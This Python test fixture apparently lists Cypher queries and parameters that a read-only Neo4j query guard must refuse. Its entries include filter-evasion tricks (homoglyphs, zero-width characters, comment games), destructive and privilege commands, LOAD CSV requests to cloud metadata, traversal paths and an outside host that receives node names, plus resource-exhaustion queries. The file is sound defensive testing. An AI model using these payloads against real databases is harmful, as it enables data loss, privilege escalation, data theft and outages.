"""More attempts: what hides in newer Cypher, in odd characters, in lists that grow, and in the full-text search."""

HIDDEN = {
    "dynamic label set": "MATCH (n) SET n:$('X') RETURN n",
    "dynamic label removed": "MATCH (n) REMOVE n:$(n.name) RETURN n",
    "dynamic label created": "CREATE (n:$('X')) RETURN n",
    "dynamic type created": "MATCH (a) CREATE (a)-[:$('T')]->(a)",
    "dynamic property set": "MATCH (n) SET n['a'] = 1 RETURN n",
    "set after a pattern comprehension": "MATCH (n) WITH n, [(n)--(m) | m.name] AS names SET n.a = names",
    "create in collect": "RETURN COLLECT { CREATE (n) RETURN n } AS a",
    "create in count": "RETURN COUNT { CREATE (n) RETURN n } AS a",
    "create in exists": "MATCH (n) WHERE EXISTS { CREATE (m) RETURN m } RETURN n",
    "merge with both arms": "MERGE (m:X {a: 1}) ON CREATE SET m.b = 1 ON MATCH SET m.b = 2 RETURN m",
    "merge in an optional call": "OPTIONAL CALL () { MERGE (m:X) RETURN m } RETURN m",
    "set after filter": "MATCH (n) FILTER n.a IS NULL SET n.a = 1",
    "set after let": "MATCH (n) LET a = 1 SET n.a = a",
    "create after finish": "MATCH (n) FINISH CREATE (m)",
    "delete by an expression": "MATCH (n) DELETE [n][0]",
    "replace all properties": "MATCH (n) SET n = {}",
    "set from a parameter": "MATCH (n) SET n += $props",
    "delete after order": "MATCH (n) WITH n ORDER BY n.id LIMIT 1 DETACH DELETE n",
    "full width letters": "ＣＲＥＡＴＥ (n)",
    "cyrillic letters": "СREATE (n)",
    "dotless i": "ınsert (n)",
    "set with a long s in the middle": "MATCH (n) DETACH DELETE n // \u017f",
    "insert with a long s": "MATCH (n) IN\u017fERT (m)",
    "use with a long s": "MATCH (n) CALL () { U\u017fE system RETURN 1 AS a } RETURN a",
    "zero width space behind": "MATCH (n) CREATE\u200b(m) RETURN m",
    "right to left": "MATCH (n) \u202eCREATE (m)\u202c RETURN m",
    "character zero": "MATCH (n)\x00CREATE (m)",
    "character zero in a string": "RETURN 'a\x00b' AS a",
    "half a character": "RETURN '\ud800' AS a",
    "half a character in a name": "MATCH (n:`\udfff`) RETURN n",
    "form feeds": "MATCH (n)\x0cCREATE\x0c(m)",
    "unit separators": "MATCH (n)\x1fCREATE\x1f(m)",
    "no-break spaces": "MATCH (n)\u00a0CREATE\u00a0(m)",
    "carriage return ends a comment": "RETURN 1 AS a // x\rUNION CREATE (n) RETURN 1 AS a",
    "comment in a comment": "MATCH (n) /* /* */ CREATE (m) RETURN m",
    "comment opened in a string": "RETURN '/*' AS a UNION CREATE (n) RETURN '*/' AS a",
    "comment opened in a name": "RETURN 1 AS `/*` UNION CREATE (n) RETURN 1 AS `*/`",
    "line comment in a string": "RETURN '//' AS a UNION CREATE (n) RETURN 1 AS a",
    "quote in a comment": "RETURN 1 AS a /* ' */ UNION CREATE (n) RETURN 1 AS a /* ' */",
    "doubled backtick": "MATCH (`a``b`) CREATE (m) RETURN m",
    "backslash before a backtick": "MATCH (`a\\`) CREATE (m) RETURN `m`",
    "escaped backslash": "RETURN '\\\\' AS a UNION CREATE (n) RETURN '\\\\' AS a",
    "mixed quotes": "RETURN \"'\" AS a UNION CREATE (n) RETURN '\"' AS a",
    "cypher 25 then a comment": "/* a */ CYPHER 25 /* b */ MATCH (n) SET n.a = 1",
    "cypher in lower case": "cypher 5 match (n) set n.a = 1",
    "cypher with a planner": "CYPHER planner=dp runtime=pipelined MATCH (n) RETURN n",
    "explain in a subquery": "CALL () { EXPLAIN CREATE (n) RETURN n } RETURN 1",
    "profile behind a comment": "/**/PROFILE/**/MATCH (n) RETURN n",
    "explain profile": "EXPLAIN PROFILE MATCH (n) DELETE n",
    "out of a parameter": "MATCH (n {id: $id}) RETURN n; MATCH (n) DETACH DELETE n //",
    "in transactions with errors": "MATCH (n) CALL (n) { DELETE n } IN TRANSACTIONS ON ERROR CONTINUE",
    "in transactions nested": "CALL () { CALL () { RETURN 1 AS a } IN TRANSACTIONS RETURN a } RETURN a",
}

GOVERN = {
    "default language": "ALTER DATABASE neo4j SET DEFAULT LANGUAGE CYPHER 25",
    "read only": "ALTER DATABASE neo4j SET ACCESS READ ONLY",
    "drop database": "DROP DATABASE neo4j DESTROY DATA",
    "composite": "CREATE COMPOSITE DATABASE c",
    "alias to elsewhere": "CREATE ALIAS a FOR DATABASE x AT 'neo4j://127.0.0.1:1' USER u PASSWORD 'p'",
    "create role": "CREATE ROLE eve AS COPY OF admin",
    "full-text index": "CREATE FULLTEXT INDEX x FOR (n:Unit) ON EACH [n.name]",
    "vector index": "CREATE VECTOR INDEX x FOR (n:Unit) ON (n.v)",
    "show indexes": "SHOW INDEXES",
    "show functions": "SHOW FUNCTIONS YIELD name RETURN name",
    "show current user": "SHOW CURRENT USER",
    "show privileges": "SHOW USER PRIVILEGES AS COMMANDS",
    "use by element": "USE graph.byElementId('4:x:0') MATCH (n) RETURN n",
    "names of graphs": "RETURN graph.names() AS a",
    "properties of a graph": "RETURN graph.propertiesByName('system') AS a",
    "jmx": "CALL dbms.queryJmx('java.lang:*')",
    "set a setting": "CALL dbms.setConfigValue('db.logs.query.enabled', 'VERBOSE')",
    "routing table": "CALL dbms.routing.getRoutingTable({})",
    "new user by procedure": "CALL dbms.security.createUser('eve', 'x', false)",
    "vector property": "MATCH (n) CALL db.create.setNodeVectorProperty(n, 'v', [1.0]) RETURN n",
    "vector search": "CALL db.index.vector.queryNodes('x', 1000000, [1.0]) YIELD node RETURN node",
    "analyzers": "CALL db.index.fulltext.listAvailableAnalyzers()",
    "relationships by full text": "CALL db.index.fulltext.queryRelationships('names', 'a') YIELD score RETURN score",
    "refresh of the index": "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
    "schema as a picture": "CALL db.schema.visualization()",
    "types of all properties": "CALL db.schema.nodeTypeProperties()",
    "prepare for replanning": "CALL db.prepareForReplanning(3600)",
    "optional procedure": "OPTIONAL CALL dbms.listConfig() YIELD name RETURN name",
    "procedure in collect": "RETURN COLLECT { CALL dbms.listConfig() YIELD name RETURN name } AS a",
    "procedure by full stop and space": "CALL dbms. /* x */ listConfig()",
    "procedure with a homoglyph": "CALL db.l\u0430bels()",
}

LEAVE = {
    "load csv by ftp": "LOAD CSV FROM 'ftp://127.0.0.1:1/x' AS r RETURN r",
    "load csv of a jar": "LOAD CSV FROM 'jar:file:///x.jar!/y' AS r RETURN r",
    "load csv of a cloud's keys": "LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS r RETURN r",
    "load csv with a climb": "LOAD CSV FROM 'file:///../../password' AS r RETURN r",
    "load csv of a share": "LOAD CSV FROM '\\\\\\\\host\\\\share' AS r RETURN r",
    "load csv of a built address": "MATCH (n) LOAD CSV FROM 'http://127.0.0.1:1/?' + n.name AS r RETURN r",
    "load csv of a parameter": "LOAD CSV FROM $url AS r RETURN r",
    "apoc export": "CALL apoc.export.csv.all('/tmp/x', {})",
    "apoc do it": "CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value",
    "apoc periodic": "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})",
    "apoc trigger": "CALL apoc.trigger.add('x', 'RETURN 1', {})",
    "apoc jdbc": "CALL apoc.load.jdbc('jdbc:x', 'y') YIELD row RETURN row",
    "rdf import": "CALL n10s.rdf.import.fetch('http://127.0.0.1:1', 'Turtle')",
    "graph data science": "CALL gds.graph.export.csv('x', {})",
    "a model elsewhere": "RETURN ai.text.embed('x', 'OpenAI', {token: 't'}) AS a",
}

TIRE = {
    "text doubled by bars": "WITH 'aaaaaaaaaaaaaaaa' AS s " + "WITH s || s AS s " * 38 + "RETURN size(s)",
    "list doubled by bars": "WITH [1, 2] AS s " + "WITH s || s AS s " * 38 + "RETURN size(s)",
    "list of itself": "WITH [1] AS s " + "WITH [s, s] AS s " * 40 + "RETURN s",
    "map of itself": "WITH 1 AS s " + "WITH {a: s, b: s} AS s " * 40 + "RETURN s",
    "two lists of each other": "WITH [1] AS a, [2] AS b "
    + "WITH [a, b] AS a, [b, a] AS b " * 30
    + "RETURN a",
    "parts of itself": "WITH [1] AS a " + "WITH [a[0..], a[0..]] AS a " * 30 + "RETURN a",
    "itself in quotes": "WITH [1] AS `s` " + "WITH [`s`, `s`] AS `s` " * 30 + "RETURN `s`",
    "itself by coalesce": "WITH [1] AS s " + "WITH [coalesce(s), coalesce(s)] AS s " * 30 + "RETURN s",
    "itself for each of its own": "WITH [1, 2, 3, 4, 5, 6, 7, 8] AS s "
    + "WITH [x IN s | s] AS s " * 12
    + "RETURN s",
    "itself by let": "WITH [1] AS s " + "LET s = [s, s] " * 30 + "RETURN s",
    "properties behind comments": "MATCH (n) RETURN n" + "/**/.a" * 700,
    "range with a step": "RETURN size(range(1, 1000000000000, 1)) AS n",
    "range in a slice": "RETURN range(0, 1000000000000)[0..10] AS n",
    "range of a range": "RETURN range(1, size(range(1, 1000000))) AS n",
    "range in collect": "RETURN COLLECT { UNWIND range(1, 1000000000000) AS x RETURN x } AS a",
    "range in a pattern": "MATCH (n WHERE any(x IN range(1, 1000000000000) WHERE x < 0)) RETURN n",
    "range in unwind of unwind": "UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN count(*)",
    "many xor": "MATCH (a) WHERE " + " XOR ".join(["a.p"] * 450) + " RETURN a",
    "a long chain of equals": "RETURN " + " = ".join(["1"] * 1_000) + " AS a",
    "search by wildcards": "CALL db.index.fulltext.queryNodes('names', '*a*b*c*') YIELD node RETURN node",
    "search by a first wildcard": "CALL db.index.fulltext.queryNodes('names', '?ivision') YIELD node RETURN node",
    "search by everything": "CALL db.index.fulltext.queryNodes('names', '*:*') YIELD node RETURN node",
    "search by a pattern": "CALL db.index.fulltext.queryNodes('names', '/(a|a)*b/') YIELD node RETURN node",
    "search by many likes": "CALL db.index.fulltext.queryNodes('names', 'ab~ bc~ cd~ de~ ef~') YIELD node RETURN node",
    "search by long likes": "CALL db.index.fulltext.queryNodes('names', '"
    + "a" * 4000
    + "~2') YIELD node RETURN node",
    "search by many words": "CALL db.index.fulltext.queryNodes('names', '"
    + "a " * 90
    + "') YIELD node RETURN node",
    "search by ranges": "CALL db.index.fulltext.queryNodes('names', '[a TO z] {a TO z} [a TO z] [b TO y]') YIELD score",
    "search by a built text": "CALL db.index.fulltext.queryNodes('names', '*' + 'a*') YIELD node RETURN node",
    "search by names": "MATCH (n) CALL db.index.fulltext.queryNodes('names', n.name) YIELD node RETURN node",
    "search by an unknown parameter": "CALL db.index.fulltext.queryNodes('names', $q) YIELD node RETURN node",
    "search without brackets": "CALL db.index.fulltext.queryNodes YIELD node RETURN node",
}

# What passes as text and must be ended, or answered without harm, by the plan, the time limit or the memory limit.
ENDS = {
    "zero width space within": "MATCH (n) CRE\u200bATE (m)",
    "soft hyphen within": "MATCH (n) SE\u00adT n.a = 1",
    "cyrillic letter within": "MATCH (n) CRE\u0410TE (m) RETURN m",
    "keyword behind a colon": "MATCH (n) RETURN n:SET n.a = 1",
    "keyword behind a bar": "MATCH (n:A|CREATE) RETURN n.a CRE ATE (m)",
    "dynamic label of a number": "MATCH (n:$(1)) RETURN n",
    "quantified pattern": "MATCH ((a)--(b)){1,200} RETURN count(*) AS n",
    "quantified twice": "MATCH ((a)--(b)){1,60} ((c)--(d)){1,60} (e), (f), (g), (h) RETURN count(*) AS n",
    "every path": "MATCH p = (a)-[*]-(b), (c), (d), (e), (f), (g) RETURN count(p) AS n",
    "shortest of everything": "MATCH p = SHORTEST 1000000 (a)--+(b), (c), (d), (e), (f) RETURN count(p) AS n",
    "cartesian collect": "MATCH (a), (b), (c), (d) RETURN collect({a: a, b: b, c: c, d: d}) AS all",
    "counts in counts": "MATCH (a) RETURN COUNT { MATCH (b), (c), (d), (e), (f) } AS n",
    "collects in collects": "MATCH (a) RETURN COLLECT { MATCH (c) RETURN COLLECT { MATCH (d), (e) RETURN e.id } } AS x",
    "a clique": "MATCH (a), (b), (c), (d), (e), (f), (g) WHERE a.x IS NULL RETURN max(g.id + a.id) AS n",
    "or of ands": "MATCH (a) WHERE " + " OR ".join(f"(a.p{n} = 1 AND a.q{n} = 1)" for n in range(24)) + " RETURN no(a)",
}  # fmt: skip

# Parameters that do not go along.
PARAMETERS: dict[str, dict[str, object]] = {
    "a long list": {"x": list(range(200_000))},
    "a long text": {"x": "a" * 2_000_000},
    "many names": {f"x{number}": 1 for number in range(200_000)},
    "half a character": {"x": "\ud800"},
    "half a character in a key": {"x": {"\udfff": 1}},
    "character zero": {"x": "a\0b"},
    "a number too large": {"x": 2**70},
    "a set": {"x": {1, 2}},
    "an object": {"x": object()},
}


def nested(depth: int) -> object:
    """A list in a list in a list."""
    value: object = 1
    for _ in range(depth):
        value = [value]
    return value


PARAMETERS["lists in lists"] = {"x": nested(100_000)}
PARAMETERS["maps in maps"] = {"x": {"a": nested(50)}}

MORE = {"hidden": HIDDEN, "govern": GOVERN, "leave": LEAVE, "tire": TIRE}
REFUSED_TOO = {name: text for kind in MORE.values() for name, text in kind.items()}
